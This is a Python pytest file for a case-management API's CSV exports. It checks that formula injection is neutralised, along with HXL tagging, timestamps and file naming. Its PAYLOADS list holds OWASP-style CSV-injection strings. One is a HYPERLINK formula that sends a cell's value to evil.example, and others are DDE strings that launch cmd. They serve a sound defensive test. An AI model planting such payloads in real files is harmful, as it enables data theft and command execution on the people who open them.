"""Both CSV files as a spreadsheet user opens them: no cell runs as a formula (OWASP CSV
injection), each says what it holds (HXL hashtags read by libhxl, the funnel's basis, "as of"
day and transit filter in its rows, a file name naming them), timestamps as in JSON (``Z``)."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import httpx
import hxl
import pytest

from app.services.exports import FORMULA_START, _cell, funnel_filename
from tests.factories import Factory, TestUser, member

EXPORT = "/api/v1/cases/export"
FUNNEL = "/api/v1/reports/funnel"
#: what an attacker may type into a free-text field (OWASP's examples and their kin)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text, newline="")))


def filename(response: httpx.Response) -> str:
    disposition = response.headers["content-disposition"]
    match = re.fullmatch(r'attachment; filename="([A-Za-z0-9_.:-]+\.csv)"', disposition)
    assert match, disposition
    return match.group(1)


def hxl_rows(response: httpx.Response) -> tuple[list[str], list[dict[str, str]]]:
    """Parse with libhxl (the Humanitarian Exchange Language's own library)."""
    data = hxl.data(io.BytesIO(response.content))
    tags = [column.display_tag for column in data.columns]
    return tags, [dict(zip(tags, row.values, strict=True)) for row in data]


@pytest.fixture
async def worker(make: Factory) -> TestUser:
    return await make.user("caseworker")


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_the_case_export_neutralises_formulas(
    make: Factory, client: httpx.AsyncClient, worker: TestUser, payload: str
) -> None:
    created = await make.case(
        worker,
        referral_source=payload,
        protection_summary=payload.replace("=", "@", 1),
        members=[member(given_name=payload)],
    )
    table = rows(await client.get(EXPORT, headers=worker.headers))
    header, _tags, (row,) = table[0], table[1], table[2:]
    cell = dict(zip(header, row, strict=True))
    # shown as text: the value as stored (texts are stripped), after a '
    assert cell["referral_source"] == "'" + created["referral_source"]
    assert cell["protection_summary"] == "'" + created["protection_summary"]
    for value in row:
        assert not value.startswith(FORMULA_START), (value, row)


def test_only_text_that_starts_a_formula_is_touched() -> None:
    for payload in PAYLOADS:
        assert _cell(payload) == "'" + payload
    for harmless in ("Community outreach", "a=b", "e-mail", "#hashtag", "", "'quoted"):
        assert _cell(harmless) == harmless
    assert _cell(-5) == -5 and _cell(None) == ""  # numbers are numbers


async def test_the_case_export_is_hxl_with_z_timestamps_and_a_dated_name(
    make: Factory, client: httpx.AsyncClient, worker: TestUser
) -> None:
    created = await make.case(worker, origin_country="HND")
    response = await client.get(EXPORT, headers=worker.headers)
    tags, records = hxl_rows(response)
    assert tags[:4] == ["#meta+id", "#meta+reference", "#country+code+origin", "#status+code"]
    assert len(set(tags)) == len(tags)  # every column has its own hashtag
    (record,) = records
    assert record["#meta+id"] == created["id"] and record["#country+code+origin"] == "HND"
    assert record["#date+created"] == created["created_at"]  # exactly as the JSON writes it
    assert record["#date+created"].endswith("Z") and "+00:00" not in response.text
    assert re.fullmatch(r"pta-cases-\d{4}-\d\d-\d\dT\d{4}Z\.csv", filename(response))
    officer = await make.user("transit_officer", "CRI")
    officer_tags, _ = hxl_rows(await client.get(EXPORT, headers=officer.headers))
    assert len(officer_tags) == len(rows(await client.get(EXPORT, headers=officer.headers))[0])


async def _funnel(client: httpx.AsyncClient, user: TestUser, **params: str) -> httpx.Response:
    return await client.get(FUNNEL, params={"format": "csv", **params}, headers=user.headers)


async def test_the_funnel_csv_says_its_basis_as_of_and_transit_filter(
    make: Factory, client: httpx.AsyncClient, worker: TestUser
) -> None:
    manager = await make.user("manager")
    await make.case(worker)
    cohort = {"basis": "cohort", "from": "2017-01-01", "to": "2017-12-31"}
    then = await _funnel(client, manager, **cohort, as_of="2018-06-30")
    today = await _funnel(client, manager, **cohort)
    assert filename(then) != filename(today)  # two different files, two different names
    assert filename(then) == ("pta-funnel_cohort_2017-01-01-to-2017-12-31_as-of-2018-06-30.csv")
    tags, records = hxl_rows(then)
    assert tags[-3:] == ["#meta+basis", "#date+reported", "#country+code+transit"]
    assert {(r["#meta+basis"], r["#date+reported"]) for r in records} == {("cohort", "2018-06-30")}
    _, records = hxl_rows(today)
    assert {r["#date+reported"] for r in records} != {"2018-06-30"}

    cri = await _funnel(client, manager, transit_country="CRI")
    tags, records = hxl_rows(cri)
    assert len(records) == 4 and {r["#country+code+transit"] for r in records} == {"CRI"}
    assert {r["#meta+basis"] for r in records} == {"cumulative"}
    assert "transit-CRI" in filename(cri)
    plain = await _funnel(client, manager)
    assert {r["#country+code+transit"] for r in hxl_rows(plain)[1]} == {""}


def test_funnel_file_names_differ_by_every_parameter() -> None:
    from datetime import date

    from app.schemas.reports import FunnelReport

    def name(**changes: Any) -> str:
        base: dict[str, Any] = {
            "definition": "x",
            "basis": "cumulative",
            "from": date(2016, 1, 1),
            "to": date(2019, 9, 30),
            "as_of": date(2019, 9, 30),
            "filters": {},
            "stages": [],
            "groups": [],
        }
        return funnel_filename(FunnelReport.model_validate({**base, **changes}))

    variants = [
        name(),
        name(basis="cohort"),
        name(as_of=date(2020, 1, 1)),
        name(**{"from": date(2017, 1, 1)}),
        name(filters={"transit_country": "CRI"}),
        name(filters={"origin_country": "CRI"}),
        name(group_by="month"),
    ]
    assert len(set(variants)) == len(variants)
